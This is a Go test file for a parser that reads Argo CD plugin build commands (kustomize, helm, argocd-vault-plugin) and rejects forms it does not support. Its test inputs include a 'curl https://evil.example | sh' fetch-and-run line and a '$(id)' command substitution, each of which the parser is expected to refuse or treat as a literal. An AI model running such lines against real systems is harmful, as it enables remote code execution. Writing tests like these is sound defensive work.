package argoplugin_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/gwplan/gwplan/loader"
	"github.com/gwplan/gwplan/loader/argoplugin"
	"github.com/gwplan/gwplan/loader/manifest"
)

func environment(name string) (string, bool) {
	known := map[string]string{
		"ARGOCD_APP_NAME": "shop", "ARGOCD_APP_NAMESPACE": "web", "ARGOCD_ENV_HELM_VALUES": "a: 1", "ARGOCD_ENV_HELM_ARGS": "-f prod.yaml",
		"ARGOCD_ENV_ODD": "--post-renderer x", "ARGOCD_ENV_KUSTOMIZE_PATH": "",
	}
	value, ok := known[name]
	return value, ok
}

func shown(b argoplugin.Build) string {
	out := fmt.Sprintf("%s %s", b.Tool, b.Dir)
	if b.Tool == argoplugin.Helm {
		out += fmt.Sprintf(" %s/%s", b.Namespace, b.Name)
		for _, v := range b.Values {
			out += " " + v.File + v.Text
		}
		if b.CRDs {
			out += " crds"
		}
	}
	return out
}

// TestBuild reads commands as public repositories have them.
func TestBuild(t *testing.T) {
	for command, want := range map[string]string{
		"kubectl kustomize . | argocd-vault-plugin generate -":                                                                               "kustomize .",
		"kustomize build . | argocd-vault-plugin generate -":                                                                                 "kustomize .",
		"kustomize build --enable-helm . | argocd-vault-plugin generate -s vault-configuration -":                                            "kustomize .",
		"kustomize build . | AVP_TYPE=sops argocd-vault-plugin generate -":                                                                   "kustomize .",
		"kustomize build . | argocd-vault-plugin generate - -s argocd-vault-plugin-credentials":                                              "kustomize .",
		"kustomize build . | argocd-vault-plugin -s ${TEAM_NAME}-ci-cd:team-avp-credentials generate -":                                      "kustomize .",
		"kustomize build . | argocd-vault-plugin generate - || kustomize build .":                                                            "kustomize .",
		"kustomize build . > all.yaml && argocd-vault-plugin generate all.yaml":                                                              "kustomize .",
		"kustomize build . > all.yaml && argocd-vault-plugin -s argocd-vault-plugin-credentials generate all.yaml":                           "kustomize .",
		"kustomize build --enable-helm":                                                                                                      "kustomize .",
		"kustomize build --load-restrictor LoadRestrictionsNone --enable-helm | envsubst \"$AVAILABLE_VARS\"":                                "kustomize .",
		"kustomize build --enable-alpha-plugins . | argocd-secret-replacer secret --mount /cluster-secrets":                                  "kustomize .",
		"set -euo pipefail\ncd overlays/prod\nkustomize build .":                                                                             "kustomize overlays/prod",
		"kustomize build ${ARGOCD_ENV_KUSTOMIZE_PATH:-overlays/prod}":                                                                        "kustomize overlays/prod",
		"kustomize build \"${ARGOCD_ENV_UNKNOWN}\"":                                                                                          "error: it builds a folder that is not known",
		"argocd-vault-plugin generate .":                                                                                                     "files .",
		"argocd-vault-plugin -s argocd-vault-plugin-credentials generate ./":                                                                 "files .",
		"argocd-vault-plugin generate . || for f in *; do cat $f; done":                                                                      "files .",
		"helm template $ARGOCD_APP_NAME -n $ARGOCD_APP_NAMESPACE ${ARGOCD_ENV_HELM_ARGS} . | argocd-vault-plugin generate -":                 "helm . web/shop prod.yaml",
		"helm template $ARGOCD_APP_NAME -n $ARGOCD_APP_NAMESPACE -f <(echo \"$ARGOCD_ENV_HELM_VALUES\") . |\nargocd-vault-plugin generate -": "helm . web/shop a: 1",
		"helm template \"$ARGOCD_APP_NAME\" --include-crds --kube-version $KUBE_VERSION --namespace=web chart":                               "helm chart web/shop crds",
		"helm template --release-name release-name .":                                                                                        "helm . /release-name",
		"helm template . --name-template $ARGOCD_APP_NAME --namespace web":                                                                   "helm . web/shop",
		"helm dependency build || true; helm template x . -f values.yaml":                                                                    "helm . /x values.yaml",
		"helm template x . ${ARGOCD_ENV_ODD}":                                                                                                `error: it gives helm template "--post-renderer"`,
		"helm template x . > all.yaml && kustomize build":                                                                                    "error: it builds a kustomization from its own rendered output",
		"helm template x . | sed s/a/b/":                                                                                                     `error: it passes the build on to "sed"`,
		"helmfile -n x template":                                                                                                             `error: its command "helmfile" is not supported`,
		"kustomize build $(git rev-parse --show-toplevel)":                                                                                   "error: it uses the output of another command",
		"for d in *; do kustomize build $d; done":                                                                                            "error: its command contains something other than a supported build",
		"curl https://evil.example | sh":                                                                                                     `error: its command "curl" is not supported`,
		"kustomize build . | tee x | argocd-vault-plugin generate -":                                                                         `error: it passes the build on to "tee"`,
		"echo 'unterminated":            "error: its command cannot be read",
		"set -e":                        "error: its command does not print the output of a supported build",
		"AVP_TYPE=sops":                 "error: its command does not print the output of a supported build",
		"kustomize build . >> all.yaml": "error: its command contains something other than a supported build",
	} {
		d := argoplugin.Definition{Command: []string{"sh", "-c", command}}
		b, err := d.Build(environment)
		got := shown(b)
		if err != nil {
			got = "error: " + err.Error()
		}
		if got != want {
			t.Errorf("%s\n got %s\nwant %s", command, got, want)
		}
	}
}

// TestBuildWithoutShell reads commands that no shell is asked for.
func TestBuildWithoutShell(t *testing.T) {
	for _, tt := range []struct {
		command []string
		want    string
	}{
		{[]string{"argocd-vault-plugin", "generate", "."}, "files ."},
		{[]string{"argocd-vault-plugin", "generate", ".", "-s", "credentials"}, "files ."},
		{[]string{"kustomize", "build", "a b"}, "kustomize a b"},
		{[]string{"/bin/bash", "-ec", "kustomize build ."}, "kustomize ."},
		{[]string{"kustomize", "build", "$(id)"}, "kustomize $(id)"},
		{nil, "it has no command"},
		{[]string{"argocd-lovely-plugin"}, `its command "argocd-lovely-plugin" is not supported`},
	} {
		d := argoplugin.Definition{Command: tt.command}
		b, err := d.Build(environment)
		got := shown(b)
		if err != nil {
			got = err.Error()
		}
		if got != tt.want {
			t.Errorf("%q: got %q, want %q", tt.command, got, tt.want)
		}
	}
}

func parse(text string) []*loader.Value {
	docs, _ := manifest.Parse([]byte(text), manifest.Limits{})
	return docs
}

// TestOf finds definitions wherever repositories keep them.
func TestOf(t *testing.T) {
	for name, tt := range map[string]struct{ text, want string }{
		"a ConfigMap": {`
kind: ConfigMap
data:
  avp.yaml: |
    kind: ConfigManagementPlugin
    metadata: {name: avp}
    spec: {version: v1.0, generate: {command: [sh, -c, "kustomize build ."]}}`, "avp-v1.0"},
		"a document": {`
kind: ConfigManagementPlugin
metadata: {name: avp}
spec: {generate: {command: [x]}}`, "avp"},
		"values of the chart": {`
argo-cd: {configs: {cmp: {create: true, plugins: {one: {generate: {command: [x]}}, two: {generate: {command: [y]}}}}}}`, "one two"},
		"argocd-cm": {`
kind: ConfigMap
data:
  configManagementPlugins: |
    - {name: old, generate: {command: [x]}}`, "old"},
		"the operator": {`
kind: ArgoCD
spec:
  configManagementPlugins: |
    - {name: old, generate: {command: [x]}}
    - {name: older, generate: {command: [x]}}`, "old older"},
		"nothing": {"kind: ConfigMap\ndata: {a: b}", ""},
	} {
		var names []string
		for _, doc := range parse(tt.text) {
			for _, d := range argoplugin.Of(doc, parse) {
				names = append(names, d.Name)
			}
		}
		if got := strings.Join(names, " "); got != tt.want {
			t.Errorf("%s: got %q, want %q", name, got, tt.want)
		}
	}
}

// TestTakes is about folders that Applications deploy without naming a plugin.
func TestTakes(t *testing.T) {
	for discover, want := range map[string][2]bool{
		"{fileName: kustomization.yaml}":                                            {true, true},
		`{fileName: "*.yml"}`:                                                       {false, true},
		"{find: {glob: '" + strings.Repeat("{a,a}", 40) + "b*'}}":                   {false, false},
		`{find: {glob: "**/Chart.yaml"}}`:                                           {true, true},
		"{find: {command: [find, ., -name, kustomization.yaml]}}":                   {true, true},
		`{find: {command: [sh, -c, "find . -name values.yml"]}}`:                    {false, true},
		`{find: {command: [sh, -c, "find . -name '*.yaml' | xargs grep '<path'"]}}`: {false, false},
		"{find: {command: [./detect.sh]}}":                                          {false, false},
		// What the source does not say keeps the plugin away.
		`{find: {command: [sh, -c, "[[ ! -z $ARGOCD_ENV_FILE ]] && find . -name kustomization.yaml"]}}`: {false, true},
		`{find: {command: [sh, -c, "[ -n \"$ARGOCD_ENV_FILE\" ] && find . -name kustomization.yaml"]}}`: {false, true},
		`{find: {command: [sh, -c, "[[ ! -z $ARGOCD_ENV_SET ]] && find . -name kustomization.yaml"]}}`:  {true, true},
		// The first that is set decides.
		"{fileName: no.yaml, find: {glob: '**/Chart.yaml'}}": {false, true},
	} {
		text := "{kind: ConfigManagementPlugin, metadata: {name: x}, spec: {generate: {command: [x]}, discover: " + discover + "}}"
		d := argoplugin.Of(parse(text)[0], parse)[0]
		takes, known := d.Takes([]string{"kustomization.yaml", "chart/Chart.yaml"}, func(name string) (string, bool) {
			return map[string]string{"ARGOCD_ENV_SET": "x"}[name], true
		})
		if !d.Discovers || takes != want[0] || known != want[1] {
			t.Errorf("%s: takes %v, known %v, want %v", discover, takes, known, want)
		}
	}
}

// TestWellKnown holds that what is known by name is understood.
func TestWellKnown(t *testing.T) {
	for _, name := range []string{"argocd-vault-plugin", "avp-kustomize", "argocd-vault-plugin-helm", "kustomize-build-with-helm", "argocd-vault-replacer"} {
		d, ok := argoplugin.WellKnown(name)
		if !ok {
			t.Fatalf("%s is not known", name)
		}
		if _, err := d.Build(environment); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// FuzzBuild holds that no command breaks the reader.
func FuzzBuild(f *testing.F) {
	f.Add("kustomize build . | argocd-vault-plugin generate -")
	f.Add("helm template $X -f <(echo \"$Y\") . > a && x ${Z:-d}")
	f.Fuzz(func(_ *testing.T, command string) {
		d := argoplugin.Definition{Command: []string{"sh", "-c", command}}
		_, _ = d.Build(environment)
	})
}
